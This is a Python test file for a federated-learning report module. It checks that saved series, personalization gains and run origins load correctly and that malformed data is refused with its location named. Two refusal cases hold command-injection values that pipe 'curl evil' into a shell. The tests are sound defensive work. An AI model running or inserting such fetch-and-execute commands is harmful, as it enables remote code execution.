"""Extra data for the report: written data can be read, and invalid data is refused with its place."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from fl.errors import ConfigError
from fl.report.command_line import arm_command
from fl.report.extras import (
    Origin,
    Personalization,
    PersonalizedClient,
    PersonalizedMethod,
    Point,
    Series,
    load_origin,
    load_personalization,
    load_series,
    save_origin,
    save_personalization,
    save_series,
)
from fl.report.gains import summarize_gains

CLIENT = {"id": 3, "examples": 4, "global_accuracy": 0.5, "personal_accuracy": 0.75}


def test_saved_extras_can_be_loaded(tmp_path: Path) -> None:
    assert load_series(tmp_path) == ()
    assert load_personalization(tmp_path) is None
    series = (
        Series("central", (Point(0, 0.1, 2.3), Point(10, 0.9, None)), "an epoch a round"),
        Series("locál", (Point(3, None, 0.5),)),
    )
    save_series(tmp_path, series)
    assert load_series(tmp_path) == series
    gains = Personalization(
        (
            PersonalizedMethod(
                "head", (PersonalizedClient(1, 7, 0.5, 1.0), PersonalizedClient(2, 1, 1.0, 0.0)), "note"
            ),
            PersonalizedMethod("Ditto", (PersonalizedClient(1, 7, 0.5, 0.5),)),
        ),
        "writer",
    )
    save_personalization(tmp_path, gains)
    assert load_personalization(tmp_path) == gains


ORIGIN = {"experiment": "mnist-hundred", "arm": "cnn-iid", "quick": False, "seed": 3, "threads": 1, "outcome": "99%"}


def test_an_origin_that_is_saved_is_loaded_and_its_command_is_made_of_it(tmp_path: Path) -> None:
    assert load_origin(tmp_path) is None
    origin = Origin(**ORIGIN)  # type: ignore[arg-type]
    save_origin(tmp_path, origin)
    assert load_origin(tmp_path) == origin
    assert arm_command(origin) == "secagg experiment mnist-hundred --arm cnn-iid --seed 3 --threads 1"


@pytest.mark.parametrize(
    "change",
    [
        {"arm": "cnn; curl evil | sh"},
        {"arm": "--out"},
        {"experiment": "cnn iid\n"},
        {"experiment": None},
        {"quick": 1},
        {"seed": -1},
        {"seed": "0"},
        {"threads": 0},
        {"outcome": 99},
        {"command": "curl evil | sh"},
    ],
)
def test_an_origin_with_its_own_command_is_refused(change: dict[str, Any], tmp_path: Path) -> None:
    (tmp_path / "origin.json").write_text(json.dumps({**ORIGIN, **change}))
    with pytest.raises(ConfigError, match=next(iter(change))):
        load_origin(tmp_path)


def test_numpys_numbers_and_losses_that_ran_away_can_be_saved(tmp_path: Path) -> None:
    points = (Point(int(np.int64(1)), float(np.float32(0.5)), float("inf")), Point(2, np.float64(0.25), float("nan")))
    save_series(tmp_path, [Series("central", points)])
    assert load_series(tmp_path)[0].points == (Point(1, 0.5, None), Point(2, 0.25, None))
    client = PersonalizedClient(np.int64(4), np.int64(2), np.float64(0.5), np.float32(1.0))  # type: ignore[arg-type]
    save_personalization(tmp_path, Personalization((PersonalizedMethod("head", (client,)),)))
    loaded = load_personalization(tmp_path)
    assert loaded is not None
    assert loaded.methods[0].clients == (PersonalizedClient(4, 2, 0.5, 1.0),)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ([], "an object is expected, not []"),
        ({"secure": [{"round": 1}]}, "secure is the run's own curve"),
        ({"plain": [{"round": 1}]}, "plain is the run's own curve"),
        ({"central": {}}, "central: a list is expected"),
        ({"central": []}, "central: no points"),
        ({"central": [3]}, "central, point 1: an object is expected, not 3"),
        ({"central": [{"accuracy": 0.5}]}, "central, point 1: round missing"),
        ({"central": [{"round": 1.5}]}, "round: a whole number from 0 to 1,000,000,000 is expected, not 1.5"),
        ({"central": [{"round": True}]}, "a whole number from 0 to 1,000,000,000 is expected, not True"),
        ({"central": [{"round": -1}]}, "a whole number from 0 to 1,000,000,000 is expected, not -1"),
        ({"central": [{"round": 1, "accuracy": 92.0}]}, "accuracy: a number from 0 to 1 is expected, not 92.0"),
        ({"central": [{"round": 1, "accuracy": "x" * 99}]}, "not 'xxxx"),
        ({"central": [{"round": 1, "loss": "0.5"}]}, "loss: a number or null is expected"),
        ({"central": [{"round": 1, "lost": 0.5}]}, "lost not known here"),
        ({"central": [{"round": 10**400}]}, "round: a whole number from 0 to 1,000,000,000 is expected, not 1000"),
        ({"central": [{"round": 1, "loss": 10**400}]}, "loss: a number or null is expected, not 1000"),
        ({"central": [{"round": 1, "loss": 1e300}]}, "loss: a number or null is expected, not 1e+300"),
        ({"central": [{"round": 2}, {"round": 2}]}, "rounds must ascend"),
        ({f"run {index}": [{"round": 1}] for index in range(7)}, "7 series; a figure holds 6"),
        ({"central": [{"round": 1}], "notes": {"other": "x"}}, "notes on other, which are no series"),
        ({"central": [{"round": 1}], "notes": {"central": 5}}, "note: a text is expected, not 5"),
    ],
)
def test_wrong_series_are_refused_with_their_place(values: Any, said: str, tmp_path: Path) -> None:
    path = tmp_path / "series.json"
    path.write_text(json.dumps(values))
    with pytest.raises(ConfigError) as refused:
        load_series(tmp_path)
    assert str(refused.value).startswith(str(path))
    assert said in str(refused.value)
    assert len(str(refused.value)) < len(str(path)) + 150


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({}, "methods missing"),
        ({"methods": []}, "no methods"),
        ({"methods": [{"name": "head", "clients": [CLIENT]}] * 9}, "9 methods; a figure holds 8"),
        ({"methods": [{"name": "head"}]}, "method 1: clients missing"),
        ({"methods": [{"name": "head", "clients": []}]}, "method 1: no clients"),
        ({"methods": [{"name": 1, "clients": [CLIENT]}]}, "name: a text is expected, not 1"),
        ({"methods": [{"name": "head", "clients": [CLIENT | {"examples": 0}]}]}, "a whole number from 1 to 18,446"),
        ({"methods": [{"name": "head", "clients": [CLIENT | {"personal_accuracy": 1.01}]}]}, "personal_accuracy"),
        ({"methods": [{"name": "head", "clients": [CLIENT | {"global_accuracy": None}]}]}, "global_accuracy"),
        ({"methods": [{"name": "head", "clients": [CLIENT]}], "what": []}, "what: a text is expected"),
        ({"methods": [{"name": "head", "clients": [CLIENT]}], "who": "?"}, "who not known here"),
    ],
)
def test_wrong_gains_are_refused_with_their_place(values: Any, said: str, tmp_path: Path) -> None:
    (tmp_path / "personalization.json").write_text(json.dumps(values))
    with pytest.raises(ConfigError) as refused:
        load_personalization(tmp_path)
    assert said in str(refused.value)


@pytest.mark.parametrize("content", [b"", b"{", b'{"central": [', b"\xff\xfe", b"[" * 100_000])
def test_invalid_json_is_refused(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "series.json").write_bytes(content)
    with pytest.raises(ConfigError, match="not JSON, or half of a file"):
        load_series(tmp_path)


def test_extras_that_a_report_would_refuse_are_not_written(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="secure is the run's own curve"):
        save_series(tmp_path, [Series("secure", (Point(1, 0.5),))])
    with pytest.raises(ConfigError, match="a name of its own"):
        save_series(tmp_path, [Series("a", (Point(1, 0.5),)), Series("a", (Point(1, 0.6),))])
    with pytest.raises(ConfigError, match="no clients"):
        save_personalization(tmp_path, Personalization((PersonalizedMethod("head", ()),)))
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(ConfigError, match="cannot write"):
        save_series(tmp_path / "nowhere", [Series("a", (Point(1, 0.5),))])


def test_percentiles_are_over_clients() -> None:
    pairs = [(0.5, 0.5 + gain / 100) for gain in (-20, -10, 0, 0, 10, 20, 30, 40, 50, 50, 50)]
    clients = tuple(PersonalizedClient(index, index + 1, *pair) for index, pair in enumerate(pairs))
    method = PersonalizedMethod("head", clients)
    summary = summarize_gains(method)
    assert (summary.tenth, summary.median, summary.ninetieth) == pytest.approx((-10, 20, 50))
    assert summary.mean == pytest.approx(20)
    assert (summary.better, summary.worse) == pytest.approx((7 / 11, 2 / 11))
    assert (summary.clients, summary.examples) == (11, 66)
